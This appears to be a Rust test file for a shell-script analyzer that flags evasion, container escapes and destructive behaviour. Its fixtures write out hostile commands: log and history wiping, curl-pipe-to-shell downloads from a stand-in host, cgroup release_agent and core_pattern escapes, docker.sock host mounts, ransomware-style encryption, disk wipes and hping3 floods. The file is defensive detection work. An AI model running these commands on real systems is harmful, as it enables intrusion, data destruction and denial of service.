use super::*;
use crate::analyzers::acts::trial::{check_file, check_started};

fn check(script: &str, expect: &[&str]) {
    check_started(&Impairment, script, expect);
}

#[test]
fn traces_and_guards() {
    check("export HISTFILE=/dev/null\n", &["EVA-HISTWIPE?"]);
    check("ln -sf /dev/null /root/.bash_history\n", &["EVA-HISTWIPE?"]);
    check("export HISTSIZE=1000\nHISTFILE=~/.h\n", &[]);
    check("> /var/log/wtmp\n", &["EVA-LOGWIPE?"]);
    check("ln -sf /dev/stdout /var/log/nginx/access.log\nrm -rf /var/log/nginx/*\n", &[]);
    check("systemctl stop aegis\nrm -rf /usr/local/qcloud\n", &["EVA-SECOFF!"]);
    check("service auditd stop\n", &["EVA-SECOFF?"]);
    check("iptables -F\niptables -t nat -A POSTROUTING -j MASQUERADE\nsystemctl stop nginx\n", &[]);
    check("chattr +i /root/.ssh/authorized_keys\n", &["EVA-CHATTR?"]);
    check("chattr +C /var/lib/db\nchattr -i /etc/resolv.conf\n", &[]);
    check("mount --bind /tmp/e /proc/$PID\n", &["EVA-BINDHIDE?"]);
    check("mount --bind /proc /chroot/proc\nmount -t proc proc /proc\n", &[]);
}

#[test]
fn gates_before_the_network() {
    check(
        "if grep -q hypervisor /proc/cpuinfo; then\n  exit 0\nfi\ncurl -s https://h.example/x | sh\n",
        &["EVA-SBXCHECK?"],
    );
    check("if [ -f /.dockerenv ]; then echo container; fi\ncurl -s https://h.example/x | sh\n", &[]);
    check("[ -f /.dockerenv ] && exit 0\nexec app\n", &[]);
    check("sleep 600\ncurl -s https://h.example/x | sh\n", &["EVA-TIMEGATE?"]);
    check(
        "[ \"$(date +%s)\" -lt 1900000000 ] && exit 0\ncurl -s https://h.example/x | sh\n",
        &["EVA-TIMEGATE?"],
    );
    check("while true; do\n  curl -s https://h.example/x | sh\n  sleep 3600\ndone\n", &[]);
    check("sleep 600\nexec app\n", &[]);
}

#[test]
fn programs_in_memory() {
    let script =
        |run: &str| format!("#!/usr/bin/env python3\nimport os, ctypes\nfd = os.memfd_create('x')\n{run}\n");
    check_file(
        &Impairment,
        "x.py",
        &script("os.execve('/proc/self/fd/3', ['x'], {})"),
        &["/x.py"],
        &["EVA-MEMFD?"],
    );
    check_file(&Impairment, "x.py", &script("os.write(fd, b'x'); os.system('true')"), &["/x.py"], &[]);
}

#[test]
fn escapes() {
    let mounts = "mount -t cgroup -o rdma cgroup /tmp/c\n";
    let notifies = "echo 1 > /tmp/c/x/notify_on_release\n";
    let writes = "echo \"$H/cmd\" > /tmp/c/release_agent\n";
    check(&[mounts, notifies, writes].concat(), &["ESC-RELEASE?"]);
    check(&[mounts, notifies].concat(), &[]);
    check(&[notifies, writes].concat(), &[]);
    check("echo '|/tmp/x' > /proc/sys/kernel/core_pattern\n", &["ESC-COREPAT?"]);
    check("echo /tmp/x | tee /sys/kernel/uevent_helper\n", &["ESC-COREPAT?"]);
    check("echo core > /proc/sys/kernel/core_pattern\nsysctl -w vm.max_map_count=262144\n", &[]);
    check("docker run --privileged -v /:/host alpine\n", &["ESC-SOCK?"]);
    check(
        "curl -s --unix-socket /var/run/docker.sock -d '{\"HostConfig\":{\"Binds\":[\"/:/h\"]}}' http://localhost/containers/create\n",
        &["ESC-SOCK?"],
    );
    check(
        "docker run -v /data:/data x\ncurl --unix-socket /var/run/docker.sock http://localhost/containers/json\n",
        &[],
    );
    check("nsenter -t 1 -m -u -i -n -p -- sh\n", &["ESC-NSENTER?"]);
    check("chroot /host systemctl restart x\n", &["ESC-NSENTER?"]);
    check("nsenter -t $PID -n ip a\nchroot /srv/jail app\nmount /dev/shm\n", &[]);
    check("insmod /opt/x.ko\n", &["ESC-KMOD?"]);
    check("modprobe wireguard\n", &[]);
}

#[test]
fn destruction() {
    check(
        "for f in $(find /data); do gpg -c --passphrase x $f; rm $f; done\nrm -rf /data/backups\n",
        &["IMP-RANSOM?"],
    );
    check(
        "find / -name '*.doc' -exec openssl enc -aes256 -in {} -out {}.x -k p \\;\necho pay > /HOW_TO_DECRYPT.txt\n",
        &[],
    );
    check("for f in /data/*; do openssl enc -aes-256-cbc -in \"$f\" -out \"$f.x\" -k p; done\n", &[]);
    check("pg_dump db | gpg -e -r k > /backup/db.gpg\nrm -rf /backup/old.bak\n", &[]);
    check("rm -rf --no-preserve-root /\n", &["IMP-WIPE?"]);
    check("dd if=/dev/zero of=/dev/sda\n", &["IMP-WIPE?"]);
    check("rm -rf /var/lib/apt/lists/* /tmp/*\ndd if=/dev/zero of=/swapfile bs=1M count=1\n", &[]);
    check("hping3 --flood -p 80 a.example &\nhping3 --flood -p 80 b.example\n", &["IMP-DDOS!"]);
    check("hping3 --flood -p 80 a.example\n", &["IMP-DDOS?"]);
    check("wrk -t4 -c100 \"$TARGET\"\nhping3 --flood $TARGET\n", &[]);
}
